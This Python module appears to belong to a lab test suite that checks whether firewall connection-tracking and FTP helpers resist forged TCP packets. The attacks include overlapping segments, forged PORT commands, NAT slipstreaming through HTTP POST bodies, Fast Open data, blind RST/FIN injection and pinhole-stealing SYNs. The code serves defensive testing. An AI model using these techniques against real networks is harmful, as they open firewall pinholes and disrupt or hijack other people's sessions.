"""Attacks by packets that no host's TCP would send: overlaps, strays, forged sources."""

import contextlib
import dataclasses
import functools
import random
import socket

from attacks import BROKE, Attack, expects_honest_sessions, hear, hear_until, say
from attacks_commands import CLIENT, PRIVILEGED, SERVER, SERVICE
from forge import ACK, FIN, RING, RST, SYN, Forged, Forger, next_of, numbers, watch
from lab import CaseFailure
from scripted import Peer, Session, encode
from shell import inside, run, write_sysctls
from topology import HOSTS, INSIDE2, OUTSIDE2

HARMLESS = 10_000


def line(stage, port):
    return stage.announcement("PORT", stage.public(CLIENT), port).encode() + b"\r\n"


def overlap(first_bytes, stage):
    """The same bytes of the client's stream come twice, with different contents.

    First comes a harmless announcement, whole or cut, and then one of port 22.
    """
    first, second = line(stage, HARMLESS)[:first_bytes], line(stage, PRIVILEGED)
    session = stage.session()
    stage.listen(CLIENT.name, PRIVILEGED)
    forged = next_of(session.client, session.server)
    with Forger(stage.lab, CLIENT.name, CLIENT.link) as forger:
        for payload in (first, second):
            forger.send(dataclasses.replace(forged, payload=payload))
        hear(session.server)
    say(session.server, "200 noted")
    hear(session.client)
    return stage.reaches(SERVER.name, stage.public(CLIENT), PRIVILEGED)


def in_clients_name(host, offset, times, stage):
    """A host outside says PORT in the client's name, and its server says yes.

    The forged line stands `offset` bytes beyond the client's last one.
    """
    session = stage.session()
    stage.listen(CLIENT.name, SERVICE)
    forged = next_of(session.client, session.server)
    forged = dataclasses.replace(
        forged, sequence=forged.sequence + offset, payload=line(stage, SERVICE)
    )
    with Forger(stage.lab, host.name, host.link) as forger:
        for _ in range(times):
            forger.send(forged)
        hear(session.server)
    say(session.server, "200 noted")
    hear(session.client)
    return stage.reaches(SERVER.name, stage.public(CLIENT), SERVICE)


def slipstream_after_gap(stage):
    """The attacker's server makes a helper lose sync before the browser says POST.

    A helper that has lost sync does not see the request, and may take its body for commands.
    """
    session = stage.connect()
    stage.listen(CLIENT.name, SERVICE)
    gap = next_of(session.server, session.client)
    gap = dataclasses.replace(gap, sequence=gap.sequence + 1000, payload=b"220 later\r\n")
    with Forger(stage.lab, SERVER.name, SERVER.link) as forger:
        for _ in range(8):
            forger.send(gap)
        say(session.client, "POST / HTTP/1.1", "Host: attacker", "", "")
        hear_until(session.server, "Host")
        say(session.client, encode("PORT", CLIENT.public4, SERVICE))
        hear_until(session.server, "PORT")
        # Behind the gap, where a helper that has lost sync reads on.
        _, acknowledged = numbers(session.server.sock)
        forger.send(
            dataclasses.replace(
                gap,
                sequence=gap.sequence + len(gap.payload),
                acknowledged=acknowledged,
                payload=b"200 noted\r\n" * 8,
            )
        )
    return stage.reaches(SERVER.name, CLIENT.public4, SERVICE)


def syn_ack(exact, forger):
    """Conntrack passes such a SYN/ACK as established."""
    forger.send(dataclasses.replace(exact, sequence=exact.sequence - 1, flags=SYN | ACK))


def handshake(exact, forger):
    """Both packets of a handshake, the first in the client's name.

    Conntrack believes that both ends have begun anew.
    """
    forger.send(
        Forged(exact.destination, exact.source, exact.acknowledged - 1, flags=SYN)
    )
    syn_ack(exact, forger)


def beyond_next_byte(flags, exact, forger):
    """The client's TCP answers with an acknowledgement, or waits for what is missing."""
    forger.send(dataclasses.replace(exact, sequence=exact.sequence + 1000, flags=flags))


def slipstream_after(prelude, stage):
    """After the browser's request, the attacker's server sends odd segments, and then plays FTP.

    A helper that begins anew with them has forgotten the request, and takes its body for the commands
    of a login.
    """
    session = stage.connect()
    stage.listen(CLIENT.name, SERVICE)
    say(session.client, "POST / HTTP/1.1", "Host: attacker", "")
    hear_until(session.server, "Host")
    say(session.server, "HTTP/1.1 100 Continue", "")
    hear(session.client)
    exact = next_of(session.server, session.client)
    with Forger(stage.lab, SERVER.name, SERVER.link) as forger:
        prelude(exact, forger)
    for command, answer in (
        (None, "220 hello"),
        ("USER a", "331 and?"),
        ("PASS b", "230 welcome"),
        (stage.announcement("PORT", stage.public(CLIENT), SERVICE), "200 noted"),
    ):
        if command:
            say(session.client, command)
            hear_until(session.server, command[:4])
        say(session.server, answer)
        hear_until(session.client, answer[:3])
    return stage.reaches(SERVER.name, stage.public(CLIENT), SERVICE)


def bounce_behind_syn_ack(stage):
    """The client sends SYN/ACK in its server's name, and acknowledges 1 MiB ahead.

    A helper that believes it takes the client's next lines for repetitions, and does not read them.
    """
    session = stage.session()
    syn_ack_ahead(session, stage)
    named = stage.announcement("PORT", stage.public(OUTSIDE2), SERVICE)
    say(session.client, named)
    heard = hear(session.server)
    return heard is not None and heard.strip() == named


def syn_ack_ahead(session, stage):
    """The client's host sends SYN/ACK in its server's name, and acknowledges 1 MiB ahead."""
    exact = next_of(session.server, session.client)
    ahead = exact.acknowledged + OUT_OF_WINDOW
    client = next(host for host in HOSTS if host.name == session.client_host)
    with Forger(stage.lab, client.name, client.link) as forger:
        forger.send(dataclasses.replace(exact, acknowledged=ahead, flags=SYN | ACK))


@contextlib.contextmanager
def fast_open(stage):
    """Yields a client's socket and the server's; both hosts use Fast Open without a cookie."""
    hosts = (stage.deployment.client, stage.deployment.server)
    key, without_cookies = "net.ipv4.tcp_fastopen", 0x1 | 0x2 | 0x4 | 0x200
    before = {}
    for host in hosts:
        namespace = stage.lab.namespace(host)
        before[host] = run(["sysctl", "-n", key], namespace=namespace).stdout.strip()
        write_sysctls(namespace, [f"{key}={without_cookies}"])
    try:
        stage.listener.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, 5)
        with inside(stage.lab.namespace(stage.deployment.client)):
            yield socket.socket(socket.AF_INET6 if stage.is_ipv6 else socket.AF_INET)
    finally:
        for host, value in before.items():
            write_sysctls(stage.lab.namespace(host), [f"{key}={value}"])


def line_in_syn(stage):
    """The client's line comes with its SYN (RFC 7413), which no helper sees.

    It passes whatever an operator forbids. The session must work all the same.
    """
    with fast_open(stage) as sock, stage.lock:
        sock.settimeout(SYN_AGAIN_SECONDS)
        target = (stage.deployment.target, stage.deployment.outside_port(stage.server_port))
        sock.sendto(b"USER anonymous\r\n", socket.MSG_FASTOPEN, target)
        stage.listener.settimeout(SYN_AGAIN_SECONDS)
        accepted, _ = stage.listener.accept()
    session = Session(stage, stage.deployment.client, Peer(sock), Peer(accepted))
    stage.opened.append(session)
    came_with_syn = accepted.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[5] & SYN_DATA
    if hear(session.server, SYN_AGAIN_SECONDS) != "USER anonymous":
        raise CaseFailure("the line did not come after the SYN was repeated without it")
    session.reply("220 scripted")
    return bool(came_with_syn)


def bytes_beside_syn(flags, stage):
    """A SYN, or a SYN/ACK in mid-connection, brings bytes that no helper reads."""
    session = stage.session()
    sender, receiver = (CLIENT, SERVER) if flags == SYN else (SERVER, CLIENT)
    exact = (
        next_of(session.client, session.server)
        if flags == SYN
        else next_of(session.server, session.client)
    )
    if flags == SYN:
        exact = dataclasses.replace(exact, source=(exact.source[0], HARMLESS), acknowledged=0)
    forged = dataclasses.replace(exact, flags=flags, payload=b"DELE x\r\n")
    with (
        watch(stage.lab, receiver.name, flags) as seen,
        Forger(stage.lab, sender.name, sender.link) as forger,
    ):
        forger.send(forged)
        arrives = seen(exact.destination[1], 0.5)
    session.exchange("NOOP", "200 well")
    return arrives


def blind(flag, stage):
    """A third host ends a session in the server's name with guessed sequence numbers.

    It has not seen the real ones, or it is off by a little.
    """
    session = stage.session()
    offer = session.announce("PASV")
    exact = next_of(session.server, session.client)
    source = random.Random(793)
    # TCP keeps a FIN within the window until the missing bytes have come.
    wrong = [
        exact.sequence + offset
        for offset in ((1, 100, 5000, -1, -100) if flag == RST else (-1, -100))
    ]
    wrong += [exact.sequence + source.randrange(WINDOW_MAX, RING - WINDOW_MAX) for _ in range(500)]
    with Forger(stage.lab, OUTSIDE2.name, OUTSIDE2.link) as forger:
        for sequence in wrong:
            forger.send(dataclasses.replace(exact, sequence=sequence, flags=flag))
        if not lives(session, offer if expects_honest_sessions(stage.lab.engine) else None):
            return True
        exact = next_of(session.server, session.client)
        forger.send(dataclasses.replace(exact, flags=flag))
    # The right number ends the session. This shows that the forgeries above arrived, and were
    # refused for their numbers.
    if lives(session, None):
        raise CaseFailure(
            "the lab: a forged segment with the right number did nothing, so this proves nothing"
        )
    return False


def lives(session, offer):
    """Whether the announced connection comes, and the control connection carries on."""
    with contextlib.suppress(CaseFailure, OSError):
        session.exchange("NOOP", "200 well", timeout=1)
        return offer is None or offer.connects()
    return False


def hole_outlives_session(flag, stage):
    """A third host ends the client's session in the server's name; its pinhole must close."""
    session = stage.session()
    offer = session.announce(stage.mode("PORT"))
    exact = dataclasses.replace(next_of(session.server, session.client), flags=flag)
    with Forger(stage.lab, OUTSIDE2.name, OUTSIDE2.link) as forger:
        forger.send(exact)
        with contextlib.suppress(CaseFailure, OSError):
            session.client.line(1)
    session.client.sock.close()
    return stage.reaches(SERVER.name, offer.address, offer.port)


def syn_after_use(stage):
    """A third host sends a SYN in the server's name to a port whose data connection has come."""
    offer = stage.session().announce(stage.mode("PORT"))
    if stage.lab.engine.name not in ("none", "ports-open") and not offer.connects():
        raise CaseFailure("the announced data connection did not come through")
    return syn_arrives(stage, OUTSIDE2, offer)


def syn_by_neighbour(stage):
    """The client's neighbour sends a SYN in the server's name, before the server's own.

    It would reach a port of the client, and use up the server's pinhole.
    """
    offer = stage.session().announce(stage.mode("PORT"))
    if syn_arrives(stage, INSIDE2, offer):
        return True
    if expects_honest_sessions(stage.lab.engine) and not offer.connects():
        raise CaseFailure("after the forged SYN the announced data connection did not come through")
    return False


def syn_arrives(stage, host, offer):
    """Whether a host's SYN in the server's name reaches the port that the client has announced."""
    forged = Forged((stage.public(SERVER), 20), (stage.public(CLIENT), offer.port), 1, flags=SYN)
    with watch(stage.lab, CLIENT.name) as seen, Forger(stage.lab, host.name, host.link) as forger:
        forger.send(forged)
        return seen(offer.port, 0.5)


# rp_filter would come too late, because the forged SYN has used up the server's pinhole by then.
ENDS_REFUSE = (
    "TCP itself refuses what is not exact (RFC 5961); the same with exact numbers ends the session"
)
OUT_OF_WINDOW = 1 << 20
WINDOW_MAX = 1 << 24
# A SYN comes again after a second.
SYN_AGAIN_SECONDS = 5
# TCPI_OPT_SYN_DATA in tcpi_options of struct tcp_info.
SYN_DATA = 32

ATTACKS = (
    Attack("overlap/same-line-twice", "routed-client", functools.partial(overlap, None)),
    Attack("overlap/same-line-twice/ipv6", "routed6-client", functools.partial(overlap, None)),
    Attack("overlap/begun-line", "routed-client", functools.partial(overlap, -6)),
    Attack(
        "forged/PORT-out-of-window",
        "routed-client",
        functools.partial(in_clients_name, OUTSIDE2, OUT_OF_WINDOW, 8),
    ),
    Attack(
        "forged/PORT-beyond-next-byte",
        "routed-client",
        functools.partial(in_clients_name, SERVER, 100, 8),
    ),
    Attack(
        "forged/PORT-with-exact-number",
        "routed-client",
        functools.partial(in_clients_name, SERVER, 0, 1),
    ),
    Attack(
        "forged/EPRT-out-of-window/ipv6",
        "routed6-client",
        functools.partial(in_clients_name, OUTSIDE2, OUT_OF_WINDOW, 8),
    ),
    Attack(
        "forged/EPRT-with-exact-number/ipv6",
        "routed6-client",
        functools.partial(in_clients_name, SERVER, 0, 1),
    ),
    Attack("slipstream/after-gap", "routed-client", slipstream_after_gap),
    *(
        Attack(
            f"slipstream/after-{name}{family}",
            deployment,
            functools.partial(slipstream_after, prelude),
        )
        for family, deployment in (("", "routed-client"), ("/ipv6", "routed6-client"))
        for name, prelude in (
            ("SYN-ACK", syn_ack),
            ("handshake", handshake),
            ("RST", functools.partial(beyond_next_byte, RST)),
            ("FIN", functools.partial(beyond_next_byte, FIN | ACK)),
        )
    ),
    *(
        attack
        for family, deployment in (("", "routed-client"), ("/ipv6", "routed6-client"))
        for attack in (
            Attack(f"fast-open/line-in-SYN{family}", deployment, line_in_syn),
            Attack(
                f"fast-open/bytes-beside-SYN{family}",
                deployment,
                functools.partial(bytes_beside_syn, SYN),
            ),
            Attack(
                f"fast-open/bytes-beside-SYN-ACK{family}",
                deployment,
                functools.partial(bytes_beside_syn, SYN | ACK),
            ),
        )
    ),
    Attack("forged/bounce-behind-SYN-ACK", "routed-client", bounce_behind_syn_ack),
    Attack("forged/bounce-behind-SYN-ACK/ipv6", "routed6-client", bounce_behind_syn_ack),
    Attack("ended/blind-RST", "routed-client", functools.partial(blind, RST), ENDS_REFUSE, BROKE),
    Attack(
        "ended/blind-FIN", "routed-client", functools.partial(blind, FIN | ACK), ENDS_REFUSE, BROKE
    ),
    Attack("ended/RST-leaves-hole", "routed-client", functools.partial(hole_outlives_session, RST)),
    Attack(
        "ended/FIN-leaves-hole",
        "routed-client",
        functools.partial(hole_outlives_session, FIN | ACK),
    ),
    *(
        attack
        for family, deployment in (("", "routed-client"), ("/ipv6", "routed6-client"))
        for attack in (
            Attack(f"data-syn/forged-after-use{family}", deployment, syn_after_use),
            Attack(f"data-syn/forged-by-neighbour{family}", deployment, syn_by_neighbour),
        )
    ),
)
